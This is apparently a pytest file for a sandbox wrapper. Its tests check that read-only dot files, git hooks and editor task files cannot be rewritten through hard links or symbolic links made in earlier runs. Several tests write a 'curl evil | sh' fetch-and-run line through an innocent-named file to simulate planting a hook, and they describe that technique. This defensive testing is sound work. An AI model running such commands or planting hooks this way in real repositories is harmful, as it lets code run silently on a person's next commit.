"""F7 attacked with real sandboxes and real git: a held file written through another name.

The attack (issue 12, item 4): one run makes a file that is not held yet (`.envrc` gets
no stand-in; `.pre-commit-config.yaml` none while no hook names pre-commit) and a hard
link to it under an innocent name; every later run holds the file read only at its path,
but writes it through the other name. The same with a hook or git's settings inside a
`.git` made by a run whose dot files were open. Every later run is refused at launch
instead, saying which file and how to fix it; git's objects, which a local clone
hard-links, are not a reason to refuse.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from tests.conftest import RunSandbox, WriteSpec, toml_list
from tests.test_dotfiles import git, make_repository
from tests.test_files_attacks import Q, files_spec, python_errnos

EXIT_SANDBOX_FAILED = 125


def refusal(path: Path, names: int = 2) -> str:
    return (f"lnk-sandbox: {path} is held read only but has {names} names (hard links); "
            "writing another name would change it. Give it a name of its own "
            f"(cp -p {path} {path}.copy && mv {path}.copy {path}), or open the folder's dot "
            "files with [files] write_dot_files\n")


@pytest.mark.parametrize("name", [".envrc", ".pre-commit-config.yaml"])
def test_F7_a_dot_file_made_with_a_hard_link_cannot_be_written_through_it_later(
    tmp_path: Path, write_spec: WriteSpec, run_sandbox: RunSandbox, name: str,
) -> None:
    work = tmp_path / "work"
    work.mkdir()
    spec = write_spec(files_spec(write=(work,)))
    held, innocent = work / name, work / "notes.txt"
    first = run_sandbox(spec, "/bin/sh", "-c",
                        f"echo 'echo hello' > {Q(str(held))} && ln {Q(str(held))} "
                        f"{Q(str(innocent))}")
    assert first.returncode == 0, first.stderr  # neither is held while it does not exist
    assert held.stat().st_nlink == 2
    second = run_sandbox(spec, "/bin/sh", "-c", f"echo 'curl evil | sh' > {Q(str(innocent))}")
    assert (second.returncode, second.stderr) == (EXIT_SANDBOX_FAILED, refusal(held))
    assert held.read_text() == "echo hello\n"
    # The fix the line gives works, and the other name is then only itself.
    copy = held.with_name(held.name + ".copy")
    subprocess.run(["cp", "-p", str(held), str(copy)], check=True)
    subprocess.run(["mv", str(copy), str(held)], check=True)
    third = run_sandbox(spec, "/bin/sh", "-c", f"echo 'curl evil | sh' > {Q(str(innocent))}")
    assert third.returncode == 0, third.stderr
    assert held.read_text() == "echo hello\n"


@pytest.mark.parametrize("inside", [".git/hooks/pre-commit", ".git/config", ".git/info/attributes",
                                    ".husky/pre-commit", ".vscode/tasks.json"])
def test_F7_a_file_in_a_held_folder_hard_linked_out_refuses_later_runs(
    tmp_path: Path, write_spec: WriteSpec, run_sandbox: RunSandbox, inside: str,
) -> None:
    """A run whose dot files are open (write_dot_files: it commits) leaves a hook, or
    git's settings, hard-linked to an ordinary name; a later run of a spec that holds
    them could rewrite the hook through that name, and the person's next commit runs it."""
    work = make_repository(tmp_path / "work")
    opened_spec = write_spec(files_spec(write=(work,)) + f"write_dot_files = {toml_list(work)}\n")
    target, innocent = work / inside, work / "notes.txt"
    first = run_sandbox(opened_spec, "/bin/sh", "-c",
                        f"mkdir -p {Q(str(target.parent))} && touch {Q(str(target))} && "
                        f"ln {Q(str(target))} {Q(str(innocent))}")
    assert first.returncode == 0, first.stderr
    before = target.read_bytes()
    held_spec = write_spec(files_spec(write=(work,)))
    second = run_sandbox(held_spec, "/bin/sh", "-c",
                         f"printf '#!/bin/sh\\ncurl evil | sh\\n' > {Q(str(innocent))}")
    assert (second.returncode, second.stderr) == (EXIT_SANDBOX_FAILED, refusal(target))
    assert target.read_bytes() == before


def test_F7_git_objects_hard_linked_by_a_local_clone_are_not_refused(
    tmp_path: Path, write_spec: WriteSpec, run_sandbox: RunSandbox,
) -> None:
    source = make_repository(tmp_path / "source")
    work = tmp_path / "work"
    git(tmp_path, "clone", "-q", "--local", str(source), str(work))
    objects = [path for path in (work / ".git" / "objects").rglob("*") if path.is_file()]
    assert any(path.stat().st_nlink > 1 for path in objects)  # what a local clone does
    spec = write_spec(files_spec(write=(work,)))
    result = run_sandbox(spec, "/bin/sh", "-c", f"echo two > {Q(str(work / 'f'))}")
    assert result.returncode == 0, result.stderr


def test_F7_no_new_hard_link_to_a_held_file_can_be_made_during_a_run(
    tmp_path: Path, write_spec: WriteSpec, run_sandbox: RunSandbox,
) -> None:
    """Why checking at launch is enough: a held file is a read-only mount of its own, and
    link(2) never crosses mounts (EXDEV), by path or by /proc/self/fd; a new name inside
    a held folder is on a read-only mount (EROFS)."""
    work = make_repository(tmp_path / "work")
    (work / ".envrc").write_text("echo hello\n")
    (work / "notes.txt").write_text("notes\n")
    spec = write_spec(files_spec(write=(work,)))
    envrc, config, notes = (str(work / name) for name in (".envrc", ".git/config", "notes.txt"))
    found = python_errnos(run_sandbox, spec, {
        "link_envrc": f"os.link({envrc!r}, {str(work / 'n1')!r})",
        "link_git_config": f"os.link({config!r}, {str(work / 'n2')!r})",
        "link_envrc_by_fd": (f"os.link('/proc/self/fd/%d' % os.open({envrc!r}, os.O_RDONLY), "
                             f"{str(work / 'n3')!r}, follow_symlinks=True)"),
        "link_into_git": f"os.link({notes!r}, {str(work / '.git' / 'hooks' / 'pre-push')!r})",
        "control_link_notes": f"os.link({notes!r}, {str(work / 'n4')!r})",
    })
    assert found == {"link_envrc": "EXDEV", "link_git_config": "EXDEV",
                     "link_envrc_by_fd": "EXDEV", "link_into_git": "EROFS",
                     "control_link_notes": "OK"}
    assert (work / ".envrc").stat().st_nlink == 1


def test_F7_what_is_looked_at_in_a_held_folder(tmp_path: Path) -> None:
    """Every file of a held folder, but git's data in a git directory (a folder named
    `objects` elsewhere is looked at), and past MAX_FILES_LOOKED_AT the run is refused
    rather than left unchecked."""
    from lnk_wrap import heldlinks

    git_dir = tmp_path / "work" / ".git"
    for folder in ("objects/ab", "refs/heads", "logs", "hooks"):
        (git_dir / folder).mkdir(parents=True)
    (git_dir / "HEAD").write_text("ref: refs/heads/main\n")
    outside = tmp_path / "outside"
    outside.write_text("x")
    for data in ("objects/ab/cd", "refs/heads/main", "logs/HEAD"):
        (git_dir / data).hardlink_to(outside)
    (git_dir / "lfs").symlink_to(outside)  # a link in git's data's place is data too
    held = {str(git_dir): "folder"}
    assert heldlinks.refusal(held, lambda path: True) is None
    vscode = tmp_path / "work" / ".vscode" / "objects"
    vscode.mkdir(parents=True)
    (vscode / "tasks.json").hardlink_to(outside)
    assert heldlinks.refusal({**held, str(vscode.parent): "folder"}, lambda path: True) == refusal(
        vscode / "tasks.json", names=5).removeprefix("lnk-sandbox: ").removesuffix("\n")
    many = tmp_path / "many"
    many.mkdir()
    for index in range(heldlinks.MAX_FILES_LOOKED_AT + 1):
        (many / str(index)).touch()
    assert heldlinks.refusal({str(many): "folder"}, lambda path: True) == (
        f"the held dot files hold more than {heldlinks.MAX_FILES_LOOKED_AT} files to look at "
        f"for hard links (the last in {many}); open the folder's dot files with [files] "
        "write_dot_files, or make it smaller")


@pytest.mark.parametrize("inside", [".vscode/tasks.json", ".husky/pre-commit",
                                    ".git/info/attributes"])
def test_F7_a_link_in_a_held_folder_to_a_written_file_refuses_later_runs(
    tmp_path: Path, write_spec: WriteSpec, run_sandbox: RunSandbox, inside: str,
) -> None:
    """The same door by a symbolic link: the link is held, what it points at is written."""
    work = make_repository(tmp_path / "work")
    opened_spec = write_spec(files_spec(write=(work,)) + f"write_dot_files = {toml_list(work)}\n")
    link, innocent = work / inside, work / "notes.txt"
    first = run_sandbox(opened_spec, "/bin/sh", "-c",
                        f"mkdir -p {Q(str(link.parent))} && touch {Q(str(innocent))} && "
                        f"ln -s {Q(os.path.relpath(innocent, link.parent))} {Q(str(link))}")
    assert first.returncode == 0, first.stderr
    held_spec = write_spec(files_spec(write=(work,)))
    second = run_sandbox(held_spec, "/bin/sh", "-c", f"echo evil > {Q(str(innocent))}")
    assert (second.returncode, second.stderr) == (
        EXIT_SANDBOX_FAILED,
        f"lnk-sandbox: {link} is held read only but is a link to {innocent}, which the "
        "sandbox writes: writing there would change what it reads. Replace the link by what "
        "it points at, or open the folder's dot files with [files] write_dot_files\n")
    assert innocent.read_text() == ""
    # A link to what the sandbox cannot write is no door: the run goes on.
    outside = tmp_path / "outside.json"
    outside.write_text("{}")
    link.unlink()
    link.symlink_to(outside)
    assert run_sandbox(held_spec, "true").returncode == 0
